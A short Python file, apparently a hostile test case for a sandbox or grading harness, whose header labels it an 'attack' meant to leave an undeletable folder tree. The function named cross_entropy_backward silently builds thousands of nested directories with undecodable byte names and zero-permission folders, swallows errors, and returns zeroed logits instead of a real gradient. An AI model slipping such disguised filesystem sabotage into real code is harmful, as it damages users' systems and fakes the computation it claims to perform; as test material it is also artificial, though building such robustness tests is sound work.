# /// attack
# rows = []
# tries = "Leaves a wide and deep tree of folders that nobody may open, with names that are no text."
# kind = "hostile"
# verdicts = ["failed", "timeout"]
# seconds = 2
# ///
import contextlib
import os


def grow():
    for n in range(50):
        os.mkdir(b"\xff%d" % n)
        os.chdir(b"\xff%d" % n)
        for inner in range(40):
            os.makedirs(b"\xfe%d/\x80" % inner)
            os.mkdir(b"closed%d" % inner, 0)


def cross_entropy_backward(logits, targets):
    with contextlib.suppress(OSError):
        grow()
    return logits.zero_()
